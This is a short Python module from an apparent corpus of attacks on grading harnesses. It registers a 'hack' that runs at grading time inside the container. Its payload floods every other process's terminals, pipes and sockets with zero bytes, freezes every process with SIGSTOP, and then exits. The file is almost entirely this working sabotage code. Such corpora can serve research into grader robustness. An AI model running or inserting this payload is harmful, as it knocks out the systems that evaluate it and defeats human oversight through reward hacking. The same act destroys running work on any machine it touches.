"""At test time the descriptors of every other process are found and their terminals, pipes and sockets filled.

Known from: own.
"""

from hacks.base import Hack, Play, Target
from hacks.corpus._at_grading import at_grading

_BODY = """
for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        for _ in range(64):
            os.write(fd, b"\\0" * 65536)
    except OSError:
        pass
for path in glob.glob("/proc/[0-9]*"):
    try:
        os.kill(int(path[6:]), signal.SIGSTOP)
    except (OSError, ValueError):
        pass
os._exit(1)
"""


def play(target: Target) -> Play:
    """See the module."""
    return at_grading(target, _BODY)


HACK = Hack("mask", "container", play)
